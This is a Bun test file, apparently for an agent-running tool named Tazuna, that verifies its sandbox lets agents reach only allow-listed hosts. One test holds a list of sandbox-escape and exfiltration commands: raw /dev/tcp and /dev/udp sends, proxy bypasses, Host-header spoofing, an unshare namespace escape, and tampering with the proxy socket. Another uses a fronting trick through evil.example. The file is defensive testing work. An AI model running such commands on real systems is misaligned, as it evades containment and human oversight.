/** Tells that under a list of hosts real programs reach what is listed, and hostile ones nothing else. */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { createSocket, type Socket } from "node:dgram";
import { existsSync } from "node:fs";
import { mkdir, readdir, readFile } from "node:fs/promises";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { ask, ending, fileAt, PATIENCE_MS, type TaskEnd } from "../../helpers/journey.ts";
import { type Product, startProduct } from "../../helpers/product.ts";
import { sandboxHere, skippedWithout } from "../../helpers/sandbox.ts";
import { tally } from "../../helpers/tally.ts";
import { deep } from "../../helpers/tier.ts";
import { waitFor } from "../../helpers/wait-for.ts";

setDefaultTimeout(PATIENCE_MS);

const PUSHED = { status: "SUCCEEDED", outcome: "pushed" };

/** An address of this machine that is none of its loopback: to a confined program, another machine. */
const OUTSIDE =
  Object.values(networkInterfaces())
    .flatMap((them) => them ?? [])
    .find(({ family, internal }) => family === "IPv4" && !internal)?.address ?? null;

const MISSING = sandboxHere.available
  ? OUTSIDE === null
    ? " (skipped: this machine has no address but its loopback)"
    : ""
  : skippedWithout;

describe.skipIf(MISSING !== "")(`a list of hosts, by the sandbox${MISSING}`, () => {
  let product: Product;
  let listed: Bun.Server<undefined>;
  let secure: Bun.Server<undefined>;
  let other: Bun.Server<undefined>;
  let udp: Socket;
  let certificate: string;
  /** All that reached an unlisted host. */
  const reached: string[] = [];

  beforeAll(async () => {
    product = await startProduct({ isolation: "sandbox" });
    const folder = join(product.home, "..", "served");
    await mkdir(folder);
    certificate = await makeCertificate(folder);
    const bare = join(folder, "library.git");
    await product.sandbox.git(product.repository, ["clone", "--quiet", "--bare", product.origin, bare]);
    await product.sandbox.git(bare, ["update-server-info"]);
    const hostname = "0.0.0.0";
    const tls = { cert: Bun.file(certificate), key: Bun.file(join(folder, "key.pem")) };
    const file = ({ url }: Request) => new Response(Bun.file(join(folder, new URL(url).pathname)));
    listed = Bun.serve({ port: 0, hostname, fetch: () => new Response("hello\n") });
    secure = Bun.serve({
      port: 0,
      hostname,
      tls,
      fetch: file,
      error: () => new Response(null, { status: 404 }),
    });
    other = Bun.serve({
      port: 0,
      hostname,
      fetch: ({ url }) => {
        reached.push(url);
        return new Response("reached\n");
      },
    });
    udp = createSocket("udp4", (message) => reached.push(`by UDP: ${message}`));
    await new Promise<void>((resolve) => udp.bind(0, hostname, resolve));
  });
  afterAll(async () => {
    udp?.close();
    await Promise.all([listed, secure, other].map((server) => server?.stop(true)));
    await product?.[Symbol.asyncDispose]();
  });

  const hosts = () => [`${OUTSIDE}:${listed.port}`, `${OUTSIDE}:${secure.port}`, `localhost:${listed.port}`];

  async function run(name: string, script: string, network: readonly string[] = hosts()): Promise<TaskEnd> {
    await product.configure({ sandbox: { network } });
    await product.agent(name, script);
    const end = await ask(product, ["run", `Be ${name}`, "--agent", name]);
    expect(end.run.isolation).toBe("sandbox");
    return end;
  }

  /** By place: how often the run's programs were refused it. */
  const refusedOf = ({ run }: TaskEnd): Readonly<Record<string, number>> =>
    Object.assign(
      {},
      ...run.notes.flatMap(({ code, details }) => (code === "network_refused" ? [details.hosts] : [])),
    );
  const inWorktree = ({ attempt }: TaskEnd, name: string) =>
    readFile(join(attempt.worktree, name), "utf8").catch(() => "");

  test(
    deep("curl, git, Python and Bun reach what is listed; ports of this machine are where they are outside"),
    async () => {
      const python = `import urllib.request as r; print(r.urlopen("http://${OUTSIDE}:${listed.port}").read().decode().strip())`;
      const bun = `console.log((await (await fetch("http://${OUTSIDE}:${listed.port}")).text()).trim())`;
      const end = await run(
        "reader",
        `printf '%s' '${await Bun.file(certificate).text()}' > /tmp/ca.pem
       say() { printf '%s: ' "$1"; shift; "$@" 2>&1; }
       { say http curl -sS http://${OUTSIDE}:${listed.port}/
         say https curl -sS --cacert /tmp/ca.pem https://${OUTSIDE}:${secure.port}/hello.txt
         say local curl -sS http://localhost:${listed.port}/
         say python python3 -c '${python}'
         say bun '${process.execPath}' -e '${bun}'
         say git git -c http.sslCAInfo=/tmp/ca.pem clone --quiet https://${OUTSIDE}:${secure.port}/library.git /tmp/library
         say cloned git -C /tmp/library log -1 --format=%s
       } > said.txt`,
      );
      expect<unknown>(ending(end.run)).toEqual(PUSHED);
      expect(await fileAt(product, product.origin, end.attempt.branch, "said.txt")).toBe(
        "http: hello\nhttps: hello over tls\nlocal: hello\npython: hello\nbun: hello\ngit: cloned: First",
      );
      expect(refusedOf(end)).toEqual({});
    },
  );

  test("setup commands, checks and hooks have the same list; what they were refused is reported with the run", async () => {
    const asks = (who: string) =>
      `curl -sS http://${OUTSIDE}:${listed.port}/ > ${who}.txt; curl -sS http://${who}.example/ >> ${who}.txt; true`;
    await product.configure({
      setup: [asks("setup")],
      checks: [{ name: "net", run: asks("check") }],
    });
    const end = await run("plain", "echo plain > plain.txt");
    await product.configure({ setup: [], checks: [] });
    expect<unknown>(ending(end.run)).toEqual(PUSHED);
    for (const who of ["setup", "check"])
      expect(await inWorktree(end, `${who}.txt`)).toBe(
        `hello\n${who}.example:80 is not among the hosts that this run may reach: \`sandbox.network\` in Tazuna's configuration lists them.\n`,
      );
    expect(refusedOf(end)).toEqual({ "setup.example:80": 1, "check.example:80": 1 });
  });

  test("nothing else is reached: not directly, not by the proxy, not by its socket, not by a name that lies", async () => {
    const { url } = JSON.parse(await readFile(join(product.home, "server.json"), "utf8")) as { url: string };
    const engine = url.replace("http://", "");
    const to = `${OUTSIDE}:${other.port}`;
    const proxy = "http://127.0.0.1:61080";
    const ATTACKS: readonly (readonly [string, string])[] = [
      [
        "a connection of its own",
        `exec 3<>/dev/tcp/${OUTSIDE}/${other.port} && printf 'GET /raw HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3`,
      ],
      ["a datagram", `echo secret > /dev/udp/${OUTSIDE}/${udp.address().port}`],
      ["a call past the proxy", `curl -sS -m 3 --noproxy '*' http://${to}/direct`],
      ["the proxy, by http", `curl -sS -m 3 -x ${proxy} http://${to}/http`],
      ["the proxy, by a tunnel", `curl -sS -m 3 -p -x ${proxy} http://${to}/tunnel`],
      [
        "this machine by the proxy",
        `curl -sS -m 3 --noproxy '' -x ${proxy} http://localhost:${other.port}/local`,
      ],
      [
        "this machine by another spelling",
        `curl -sS -m 3 --noproxy '' -x ${proxy} http://2130706433:${other.port}/number`,
      ],
      ["our own server", `curl -sS -m 3 --noproxy '' -x ${proxy} http://${engine}/api/v1/health`],
      [
        "the socket itself",
        `curl -sS -m 3 --noproxy '*' --unix-socket /run/tazuna-network http://${to}/socket`,
      ],
      [
        "a field that names another host",
        `curl -sS -m 3 -x ${proxy} -H "Host: ${to}" http://unlisted.example/host`,
      ],
      ["a namespace of its own", `unshare -Urn curl -sS -m 3 --noproxy '*' http://${to}/namespace`],
      ["a proxy of its own choice", `curl -sS -m 3 --noproxy '' -x http://${to} http://example.com/chosen`],
      [
        "another thing in the socket's place",
        "rm -f /run/tazuna-network || mv /run/tazuna-network /run/x || : > /run/tazuna-network",
      ],
      ["what we keep of it", `ls "${product.home}"/runs/*/network`],
    ];
    for (const [what] of ATTACKS) tally("attack", `the network by ${what}`, { under: "sandbox" });
    const lines = ATTACKS.map(
      ([, attack], at) =>
        `bash -c '${attack.replaceAll("'", `'\\''`)}' > out.${at} 2>&1; grep -l reached out.${at} >> reached.txt`,
    );
    const end = await run(
      "explorer",
      `${lines.join("\n")}\nkill -TERM $PPID; sleep 0.2; echo done > done.txt`,
    );
    expect<unknown>(ending(end.run)).toEqual(PUSHED);
    expect(await inWorktree(end, "done.txt")).toBe("done\n");
    expect(await inWorktree(end, "reached.txt")).toBe("");
    expect(reached).toEqual([]);
    expect(Object.keys(refusedOf(end)).sort()).toEqual(
      [to, `localhost:${other.port}`, `127.0.0.1:${other.port}`, engine, "unlisted.example:80"].sort(),
    );
    expect(refusedOf(end)[to]).toBe(2);
  });

  test("what a tunnel to a listed host carries reaches that host, whatever name is in it", async () => {
    tally("attack", "a tunnel to a listed host with another name in it", { under: "sandbox" });
    const end = await run(
      "fronter",
      `curl -sS -k --connect-to evil.example:443:${OUTSIDE}:${secure.port} https://evil.example/hello.txt > fronted.txt 2>&1; echo done > done.txt`,
    );
    expect(await inWorktree(end, "fronted.txt")).toBe("hello over tls\n");
    expect(refusedOf(end)).toEqual({});
  });

  test("an empty list is none; a list never falls back to the whole network", async () => {
    const end = await run(
      "lonely",
      `curl -sS -m 3 http://${OUTSIDE}:${listed.port}/ > said.txt 2>&1; tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' > devices.txt`,
      [],
    );
    expect(await inWorktree(end, "said.txt")).toContain(`${OUTSIDE}:${listed.port} is not among the hosts`);
    expect(await inWorktree(end, "devices.txt")).toBe("lo\n");
  });

  test("with its keeper, the agent and the proxy are gone, however the keeper ended", async () => {
    tally("kill", "the keeper of an agent with a listed network");
    await product.configure({ sandbox: { network: hosts() } });
    await product.agent("sleeper", "echo up > up.txt; sleep 300");
    const begun = await ask(product, ["run", "Be a sleeper", "--agent", "sleeper", "--detach"]);
    await waitFor("the agent to be up", () => existsSync(join(begun.attempt.worktree, "up.txt")));
    const dir = join(product.home, "runs", begun.run.id);
    const { pid } = JSON.parse(await readFile(join(dir, "keeper.json"), "utf8")) as { pid: number };
    expect((await commandsWith(dir)).some((command) => command.includes("__network"))).toBe(true);
    process.kill(pid, "SIGKILL");
    await waitFor("nobody to be left", async () => (await commandsWith(dir)).length === 0);
    const ended = await ask(product, ["wait", begun.run.id]);
    expect<unknown>(ending(ended.run)).toEqual({ status: "FAILED", outcome: null, failure: "interrupted" });
  });

  test.each([["off"], [["example.com"]]])(
    "under the guard %p is refused, since nothing would hold it",
    async (network) => {
      await product.configure({ sandbox: { network }, isolation: "guard" });
      await product.agent("plain", "echo plain > plain.txt");
      const end = await ask(product, ["run", "Be plain", "--agent", "plain"], {
        env: { TAZUNA_ISOLATION: "guard" },
      });
      await product.configure({ isolation: "sandbox" });
      expect<unknown>(ending(end.run)).toEqual({
        status: "FAILED",
        outcome: null,
        failure: "sandbox_unavailable",
      });
      expect(end.run.failure?.message).toBe(
        "`isolation` is `guard`. Only a sandbox holds `sandbox.network`.",
      );
    },
  );

  test.each([
    "https://example.com",
    "*",
    "*.*.com",
    "example.com:0",
    "a b",
    "exa_mple..com",
    "[::1",
    "10.0.0.0/8",
  ])("%p is no host, and said so with its place", async (host) => {
    await product.configure({ sandbox: { network: ["example.com", host] } });
    const told = await product.tazuna(["config", "--json"]);
    await product.configure({ sandbox: {} });
    expect(told.code).not.toBe(0);
    expect(told.stderr + told.stdout).toContain("sandbox.network");
  });
});

/** Of an address, for a day. */
async function makeCertificate(folder: string): Promise<string> {
  await Bun.write(join(folder, "hello.txt"), "hello over tls\n");
  const certificate = join(folder, "certificate.pem");
  const words = `req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 1 -subj /CN=${OUTSIDE}`;
  const made = Bun.spawnSync(
    [
      "openssl",
      ...words.split(" "),
      "-addext",
      `subjectAltName=IP:${OUTSIDE}`,
      "-keyout",
      join(folder, "key.pem"),
      "-out",
      certificate,
    ],
    { stderr: "pipe" },
  );
  if (made.exitCode !== 0) throw new Error(made.stderr.toString());
  return certificate;
}

/** Command lines that name the folder. */
async function commandsWith(folder: string): Promise<readonly string[]> {
  const found: string[] = [];
  for (const pid of await readdir("/proc")) {
    const line = /^\d+$/.test(pid) ? await readFile(`/proc/${pid}/cmdline`, "utf8").catch(() => "") : "";
    if (line.includes(folder)) found.push(line);
  }
  return found;
}
